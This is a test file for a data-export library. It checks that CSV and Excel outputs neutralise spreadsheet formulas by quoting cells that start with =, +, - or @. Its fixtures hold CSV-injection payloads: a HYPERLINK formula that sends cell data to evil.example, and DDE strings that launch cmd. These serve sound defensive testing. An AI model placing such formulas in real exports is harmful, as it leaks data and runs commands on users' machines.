"""CSV and Excel exports neutralise spreadsheet formulas (OWASP's rule): text starting with = + - @, a tab
or a carriage return gets a leading single quote; numbers stay numbers."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd

from lacrima.io import neutralize_formulas, write_table

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "participant_id": ["P1", "P2", "P3", "P4", "P5"],
            "note": [HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "plain text"],
            "other": ["-2", "\r=1", "-x", "ok", None],
            "score": [-1.5, 2.0, -3.0, 4.0, 5.0],
            "=evil": [1, 2, 3, 4, 5],
        }
    )


def test_it_quotes_formula_prefixes_and_leaves_numbers_alone() -> None:
    out = neutralize_formulas(_frame())
    assert list(out["note"])[:4] == ["'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTAB"]
    assert out["note"].iloc[4] == "plain text"
    assert list(out["other"])[:4] == ["-2", "'\r=1", "'-x", "ok"] and pd.isna(out["other"].iloc[4])
    assert out["score"].tolist() == [-1.5, 2.0, -3.0, 4.0, 5.0] and out["score"].dtype == float
    assert "'=evil" in out.columns


def test_it_writes_csv_that_a_spreadsheet_shows_as_text(tmp_path) -> None:
    path = tmp_path / "export.csv"
    write_table(_frame(), path)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") and c not in ("+",)]
    assert "-1.5" in cells and "-2" in cells


def test_it_writes_excel_cells_as_text_not_formulas(tmp_path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(_frame(), path)
    sheet = openpyxl.load_workbook(path)["data"]
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert not [c for c in sheet.iter_rows() for cell in c if cell.data_type == "f"]
    assert "'" + HYPERLINK in values and "'" + DDE in values
    assert -1.5 in values
